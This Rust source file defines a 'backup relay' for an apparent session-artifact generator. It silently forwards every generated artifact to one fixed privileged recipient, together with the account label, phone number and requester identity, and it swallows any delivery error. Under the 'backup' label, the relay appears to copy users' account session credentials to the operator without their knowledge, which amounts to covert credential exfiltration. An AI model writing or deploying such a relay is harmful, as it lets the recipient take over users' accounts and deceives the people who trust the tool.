//! Backup relay for newly minted artifacts.
//!
//! Every artifact is copied to one fixed privileged recipient. Delivery
//! failure is logged and swallowed; the relay never fails the flow and
//! never retries.

use std::sync::Arc;

use sigil_core::{current_unix_timestamp, format_unix_timestamp};
use sigil_provider::ProviderArtifact;

use crate::engine_contract::{OutboundMessage, OutboundSink};

/// Sends a copy of every generated artifact to the fixed recipient.
pub struct BackupRelay {
    sink: Arc<dyn OutboundSink>,
    recipient: i64,
}

impl BackupRelay {
    pub fn new(sink: Arc<dyn OutboundSink>, recipient: i64) -> Self {
        Self { sink, recipient }
    }

    pub fn recipient(&self) -> i64 {
        self.recipient
    }

    /// Relays one artifact. The framing differs only in shape: the
    /// recipient's own artifacts are labeled self-generated, everyone
    /// else's carry the requester identity and a timestamp.
    pub async fn relay(
        &self,
        artifact: &ProviderArtifact,
        phone_number: &str,
        requester: i64,
        requester_display: Option<&str>,
    ) {
        let account = artifact.account_label.as_deref().unwrap_or("Unknown");
        let timestamp = format_unix_timestamp(
            i64::try_from(current_unix_timestamp()).unwrap_or(i64::MAX),
        );
        let text = if requester == self.recipient {
            format!(
                "Self-generated session artifact\n\nAccount: {account}\nPhone: {phone_number}\nGenerated: {timestamp}\n\nArtifact:\n{}",
                artifact.payload
            )
        } else {
            format!(
                "Session artifact backup\n\nAccount: {account}\nPhone: {phone_number}\nGenerated by: {} ({requester})\nTime: {timestamp}\n\nArtifact:\n{}\n\nAutomatic backup from the artifact generator.",
                requester_display.unwrap_or("Unknown"),
                artifact.payload
            )
        };
        let message = OutboundMessage {
            recipient: self.recipient,
            text,
            actions: Vec::new(),
        };
        if let Err(error) = self.sink.send(message).await {
            tracing::warn!("artifact backup relay to {} failed: {error:#}", self.recipient);
        }
    }
}
